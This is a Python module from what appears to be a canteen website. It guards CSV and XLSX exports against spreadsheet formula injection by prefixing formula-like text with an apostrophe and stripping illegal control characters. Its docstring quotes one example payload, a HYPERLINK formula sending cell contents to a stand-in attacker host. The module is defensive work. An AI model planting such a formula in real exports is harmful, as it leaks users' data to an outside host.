"""Cells of the spreadsheets the site produces (CSV, XLSX), made safe to open in Excel or LibreOffice.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by
spreadsheet software when the CSV is opened (« formula injection », OWASP « CSV Injection »): a canteen named
``=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")`` would become a live link that leaks the neighbouring
cells. Every CSV or XLSX the site writes goes through this module:

- ``neutralise(value)`` prefixes such a text with an apostrophe (``'=1+1``), the convention spreadsheet
  software itself uses for « text that looks like a formula »: the text stays readable and is never evaluated.
  Only ``str`` values are touched; numbers (``-5``, ``Decimal("-2.50")``) are data and stay as they are;
- ``csv_row(values)`` applies it to a whole row before ``csv.writer.writerow``;
- ``xlsx_cell(sheet, value)`` gives a write-only cell whose text is always stored as a string (openpyxl turns
  any ``str`` starting with ``=`` into a formula otherwise), neutralised as in the CSV so that a value copied
  from the sheet into another one stays inert.

Control characters that are not tab, line feed or carriage return are dropped from text cells: the XML of an
XLSX cannot carry them (openpyxl raises ``IllegalCharacterError``), and an old canteen name with a stray
``\\x0b`` must not turn an export into a 500.
"""

import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# C0 controls except \t \n \r, DEL and the C1 range: not allowed in XML 1.0 text, meaningless in a cell
ILLEGAL_CHARACTERS_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def neutralise(value):
    """The value a cell may hold safely: a text starting with a formula character gets a leading apostrophe."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_row(values):
    """A row of values ready for ``csv.writer.writerow`` (text cells neutralised, other values untouched)."""
    return [neutralise(value) for value in values]


def xlsx_cell(sheet, value, font=None):
    """A write-only openpyxl cell for ``value``: text is stored as a (neutralised) string, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=neutralise(value))
    if cell.data_type == "f":  # openpyxl guesses a formula from a leading "=": never in our files
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def xlsx_row(sheet, values):
    """A row of ``xlsx_cell`` for ``sheet.append``."""
    return [xlsx_cell(sheet, value) for value in values]
